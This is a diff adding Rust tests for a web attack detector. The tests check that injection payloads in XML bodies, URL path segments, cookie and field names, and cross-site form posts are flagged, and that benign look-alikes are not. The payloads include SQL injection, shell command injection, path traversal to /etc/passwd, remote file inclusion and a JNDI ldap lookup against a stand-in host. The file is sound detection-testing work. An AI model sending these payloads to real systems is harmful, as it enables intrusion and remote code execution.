@@ -1,0 +1,143 @@
+//! Where in a request an attack stands: inside XML, in a part of a path, in a name, and what a browser says of where a
+//! request comes from.
+
+use std::collections::BTreeMap;
+
+use watchpost_detect::{Verdict, inspect_request};
+
+fn headers(all: &[(&str, &str)]) -> BTreeMap<String, String> {
+    all.iter().map(|&(name, value)| (name.to_owned(), value.to_owned())).collect()
+}
+
+fn xml(content_type: &str, body: &str) -> Verdict {
+    inspect_request("POST", "/api/orders", &headers(&[("Content-Type", content_type)]), Some(body))
+}
+
+fn names(verdict: &Verdict) -> Vec<&'static str> {
+    verdict.categories.iter().map(|family| family.as_str()).collect()
+}
+
+#[test]
+fn attacks_inside_of_xml_are_values_of_their_own() {
+    for (body, family, field) in [
+        (r#"<?xml version="1.0"?><o><item id="1' or '1'='1"/></o>"#, "sqli", "http.body.id"),
+        ("<o><host>10.0.0.1; cat /etc/issue</host></o>", "cmdi", "http.body.host"),
+        ("<o><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></o>", "xss", "http.body.note"),
+        ("<o><note><![CDATA[1 union select 1,2,3]]></note></o>", "sqli", "http.body.note"),
+        (
+            "<s:Body><s:file href='..&#x2f;..&#x2f;..&#x2f;etc/passwd'/></s:Body>",
+            "traversal",
+            "http.body.href",
+        ),
+        ("<o><page>ftp://x.example/a.inc</page></o>", "rfi", "http.body.page"),
+    ] {
+        for content_type in ["application/xml", "application/soap+xml; charset=utf-8", "text/plain"] {
+            let verdict = xml(content_type, body);
+            assert!(names(&verdict).contains(&family), "{content_type} {body}: {:?}", names(&verdict));
+            let fields: Vec<&str> = verdict
+                .findings
+                .iter()
+                .filter(|found| found.family.as_str() == family)
+                .filter_map(|found| Some(found.matched.as_ref()?.field.as_str()))
+                .collect();
+            assert!(fields.contains(&field) || fields.contains(&"http.body"), "{body}: {fields:?}");
+        }
+    }
+}
+
+#[test]
+fn documents_without_an_attack_are_left_alone() {
+    for body in [
+        r#"<?xml version="1.0" encoding="UTF-8"?><order id="17"><item sku="A-9" n="2">Tea &amp; "more"</item></order>"#,
+        "<soap:Envelope xmlns:soap='http://www.w3.org/2003/05/soap-envelope'><soap:Body><Get><Id>5</Id></Get></soap:Body></soap:Envelope>",
+        "<plans><name>Select a plan from the list</name><updated>2026-03-02T10:00:00Z</updated><see at='https://example.org/a?b=1'/></plans>",
+        "<methodCall><methodName>shop.order</methodName><params><param><value>O'Neill &amp; sons</value></param></params></methodCall>",
+        "<config><path>images/logo.png</path><range from='1' to='10'/><expr>a &lt; b</expr></config>",
+    ] {
+        let verdict = xml("application/xml", body);
+        let found: Vec<&str> = verdict.findings.iter().map(|found| found.rule_id.as_str()).collect();
+        assert!(found.is_empty(), "{body}: {found:?}");
+    }
+}
+
+#[test]
+fn a_part_of_a_path_is_a_value_where_it_has_marks() {
+    for (path, family) in [
+        ("/users/1'%20or%20'1'='1/orders", "sqli"),
+        ("/users/24'+union+all+select+1,2,3+from+accounts", "sqli"),
+        ("/ping/10.0.0.1;id", "cmdi"),
+        ("/run/phpinfo()", "php"),
+        ("/show/%24%7Bjndi:ldap:%2f%2fx.example%7D", "java"),
+    ] {
+        let verdict = inspect_request("GET", path, &BTreeMap::new(), None);
+        assert!(names(&verdict).contains(&family), "{path}: {:?}", names(&verdict));
+    }
+    for path in [
+        "/docs/etc/passwd-policy.html",
+        "/wiki/O'Neill_(actor)",
+        "/files/Report%20(final).pdf",
+        "/a/b;v=1.1/c",
+        "/shop/{id}/items",
+        "/%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82/(1)",
+    ] {
+        let verdict = inspect_request("GET", path, &BTreeMap::new(), None);
+        assert!(!verdict.is_detected(), "{path}: {:?}", verdict.findings);
+    }
+}
+
+#[test]
+fn attacks_on_what_reads_names_are_found_in_names() {
+    for (header, body) in [
+        (("Cookie", "rO0ABQ=test"), None),
+        (("Cookie", "KztAAU=test; theme=dark"), None),
+        (("Content-Type", "application/json"), Some(r#"{"KztAAU": "test"}"#)),
+        (("Content-Type", "application/x-www-form-urlencoded"), Some("Cs7QAF=test")),
+    ] {
+        let verdict = inspect_request("POST", "/x", &headers(&[header]), body);
+        assert!(names(&verdict).contains(&"java"), "{header:?} {body:?}: {:?}", names(&verdict));
+    }
+}
+
+/// Only what a page can send without asking is a forgery: a POST of a form's type, with the user's session.
+#[test]
+fn requests_that_another_site_made_the_browser_send() {
+    let session = ("Cookie", "theme=dark; sessionid=4f1c9a");
+    let form = ("Content-Type", "application/x-www-form-urlencoded");
+    let cross = ("Sec-Fetch-Site", "cross-site");
+    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], bool);
+    let cases: [Case<'_>; 12] = [
+        ("POST", &[session, form, cross], true),
+        ("POST", &[session, ("Content-Type", "text/plain;charset=UTF-8"), cross], true),
+        ("POST", &[session, cross], true),
+        ("POST", &[session, form, ("Origin", "null")], true),
+        ("GET", &[session, cross], false),
+        ("HEAD", &[session, cross], false),
+        ("OPTIONS", &[session, cross, ("Access-Control-Request-Method", "POST")], false),
+        ("PUT", &[session, cross, ("Content-Type", "application/json")], false),
+        ("POST", &[form, cross], false),
+        ("POST", &[session, form, ("Sec-Fetch-Site", "same-site")], false),
+        ("POST", &[session, form, ("Sec-Fetch-Site", "same-origin"), ("Origin", "null")], false),
+        ("POST", &[session, form, ("Sec-Fetch-Site", "none")], false),
+    ];
+    for (method, all, expect) in cases {
+        let verdict = inspect_request(method, "/transfer", &headers(all), Some("to=17&amount=5"));
+        let is_found = verdict.findings.iter().any(|found| found.rule_id == "wp.csrf.cross_site");
+        assert_eq!(is_found, expect, "{method} {all:?}");
+    }
+    let sign_on = inspect_request("POST", "/auth/saml/acs", &headers(&[session, form, cross]), Some("a=b"));
+    assert!(!sign_on.is_detected(), "sign-on answers come from another site: {:?}", sign_on.findings);
+}
+
+#[test]
+fn a_class_in_prose_weighs_less_than_one_in_code() {
+    let of = |text: &str| {
+        let body = serde_json::json!({ "comment": text }).to_string();
+        let verdict =
+            inspect_request("POST", "/x", &headers(&[("Content-Type", "application/json")]), Some(&body));
+        let java = |found: &&watchpost_model::finding::Finding| found.family.as_str() == "java";
+        verdict.findings.iter().filter(java).map(|found| found.risk).max().unwrap_or(0)
+    };
+    let prose = of("Our docs say that java.lang.Runtime should be mentioned on the page about processes.");
+    let code = of("java.lang.Runtime.getRuntime().exec('id')");
+    assert!(prose < 25 && code >= 70, "prose {prose}, code {code}");
+}
